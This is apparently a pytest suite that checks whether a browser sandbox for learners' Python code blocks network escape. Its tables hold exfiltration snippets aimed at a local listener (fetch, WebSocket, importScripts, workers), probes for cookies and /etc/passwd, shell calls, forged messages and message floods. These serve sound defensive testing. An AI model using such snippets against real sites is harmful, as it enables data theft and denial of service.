"""A learner's code may try what it likes: no request leaves the page that runs it. Without its policy they do leave."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from attention_ui.practice.exercise_view import EDITOR_WORDS
from attention_ui.server.runner import runner_page
from lessons.screen import render

# Ways to reach another host from a worker, in a learner's Python. {url} is where to.
REACH = {
    "fetch": "w.fetch('{url}')",
    "fetch, as a post": "w.eval(\"fetch('{url}', {{method: 'POST', mode: 'no-cors', body: 'secret'}})\")",
    "XMLHttpRequest": "w.eval(\"x = new XMLHttpRequest(); x.open('GET', '{url}', false); x.send()\")",
    "Brython's ajax": "from browser import ajax; ajax.get('{url}', blocking=True)",
    "WebSocket": "w.eval(\"new WebSocket('{url}'.replace('http', 'ws'))\")",
    "EventSource": "w.eval(\"new EventSource('{url}')\")",
    "importScripts": "w.importScripts('{url}')",
    "import()": "w.eval(\"import('{url}')\")",
    "a worker of its own": "w.eval(\"new Worker('{url}')\")",
    "a worker in a worker": "w.eval(\"new Worker(URL.createObjectURL(new Blob(['fetch(`{url}`)'])))\")",
    "a new function": "w.eval(\"new Function('fetch(`{url}`)')()\")",
    "a timer": "w.eval(\"setTimeout(() => fetch('{url}'), 0)\")",
    "import of a module": "import sys; sys.path.insert(0, '{url}'); import stolen",
    "a Python file": "open('{url}').read()",
    "WebTransport": "w.eval(\"new WebTransport('https' + '{url}'.slice(4))\")",
    "a font": "w.eval(\"new FontFace('f', 'url({url})').load()\")",
    "a cache": "w.eval(\"caches.open('a').then(c => c.add('{url}'))\")",
}
# Of these the test knows that they arrive where nothing forbids it, so that it sees what it looks for.
# The others, an EventSource among them, wait for the code to end, and the worker ends with it: sometimes before they
# are sent.
ARRIVE = {
    "fetch",
    "fetch, as a post",
    "XMLHttpRequest",
    "WebSocket",
    "importScripts",
    "import()",
    "a worker of its own",
    "a new function",
    "a Python file",
}
# What there is no way to: each line must stop with an error.
NO_WAY = {
    "the page": "w.document.title",
    "the page around it": "w.parent.document",
    "cookies": "w.document.cookie",
    "what the browser keeps": "w.localStorage.getItem('a')",
    "a data base": "w.eval(\"indexedDB.open('a')\")",
    "the server's files": "open('/etc/passwd').read()",
    "the system": "import os; os.system('ls')",
    "another process": "import subprocess",
    "a socket": "import socket",
}
WAIT = "\nn = 0\nwhile n < 150_000:\n    n += 1\n"  # the worker ends with its answer: long enough to send something


class Listener(ThreadingHTTPServer):
    """Serves the page with its policy and without, and writes down what is asked for besides."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Answers)
        self.arrived = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_):
        """A worker that ends while it is being answered is no error."""

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_address[1]}"


class Answers(BaseHTTPRequestHandler):
    def do_GET(self):
        html, policy = runner_page()
        page = self.path in ("/guarded", "/open")
        if not page and self.path != "/favicon.ico":
            self.server.arrived.append(self.path)
        self.send_response(200)
        if self.path == "/guarded":
            self.send_header("Content-Security-Policy", policy)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/html; charset=utf-8" if page else "text/javascript")
        self.end_headers()
        self.wfile.write(html.encode() if page else b"")

    do_POST = do_GET

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.shutdown()


@pytest.fixture
def runner(chromium, listener):
    """Opens the page alone; gives a function that runs code there and tells what came back."""
    context = chromium.new_context()

    def opened(path):
        page = context.new_page()
        page.set_default_timeout(20_000)
        page.goto(f"{listener.url}/{path}")
        page.evaluate("""addEventListener('message', ({data}) => {
            if (data.type === 'attention-lab:sent' && data.sent.answer) window.answer = data.sent.answer
        })""")

        def run(code):
            page.evaluate("window.answer = null")
            job = json.dumps({"entry": "done", "returns": [], "cases": []})
            given = {"exercise": code, "seed": 1, "job": job, "starter": "", "code": code, "limit": 4000}
            given |= {"lang": "en", "words": {name: render(said) for name, said in EDITOR_WORDS.items()}}
            page.evaluate("given => postMessage({type: 'attention-lab:given', given}, '*')", given)
            page.locator("#run:enabled").click()
            page.wait_for_function("() => window.answer")
            return json.loads(page.evaluate("window.answer"))

        return run

    yield opened
    context.close()


def attack(run, listener, path):
    """Every way tried in one program, each with an address of its own; those of which something arrived."""
    lines = ["from browser import self as w", "done = print"]
    for number, way in enumerate(REACH.values()):
        tried = way.format(url=f"{listener.url}/{path}-{number}-")
        lines += ["try:", f"    {tried}", "except BaseException as error:", "    print(error)"]
    run("\n".join(lines) + WAIT)
    return {name for number, name in enumerate(REACH) if any(f"{path}-{number}-" in at for at in listener.arrived)}


def test_nothing_arrives_from_behind_the_policy_and_much_without_it(runner, listener):
    assert attack(runner("open"), listener, "free") >= ARRIVE, "the control does not see what it should"
    assert attack(runner("guarded"), listener, "kept") == set()
    arrived = [path for path in listener.arrived if not path.startswith("/free-")]  # of those some come late
    assert arrived == []


def test_there_is_no_way_out_and_what_one_run_changes_the_next_does_not_find(runner, whole):
    run = runner("guarded")
    for what in [*NO_WAY][:: 1 if whole else 3]:
        assert run(f"from browser import self as w\ndone = print\n{NO_WAY[what]}")["error"] is not None, what
    change = "from browser import self as w\nimport math\nmath.pi = 3\ntorch.softmax = None\nw.left = 1\ndone = print"
    assert run(change)["error"] is None
    look = "from browser import self as w\nimport math\nprint(math.pi > 3, torch.softmax is None, hasattr(w, 'left'))\n"
    assert run(look + "done = print")["printed"] == "True False False\n"


def test_a_forged_answer_is_handed_on_as_a_text_and_no_more(runner):
    forged = """
from browser import self as w
w.postMessage(w.eval("({ready: true})"))
w.postMessage(w.eval("({answer: {passed: true}})"))
w.postMessage(w.eval("({answer: 'x'.repeat(1e6)})"))
done = print
"""
    context = runner("guarded")
    with pytest.raises(json.JSONDecodeError):
        context(forged)


# Endless, so that only the page can end it; three million messages used to keep it from its clock for a minute.
FLOODS = {
    "messages": "while (true) postMessage({ready: true})",
    "errors": "while (true) reportError(new Error('no'))",
}


@pytest.mark.part(2)
@pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
def test_whatever_runs_away_is_stopped_and_the_next_run_is_as_ever(runner, flood):
    run = runner("guarded")
    result = run(f"from browser import self as w\ndone = print\nw.eval({flood!r})")
    assert result["error"]["type"] in ("TimeLimit", "RuntimeError")
    assert run("done = print\nprint(1)")["printed"] == "1\n"
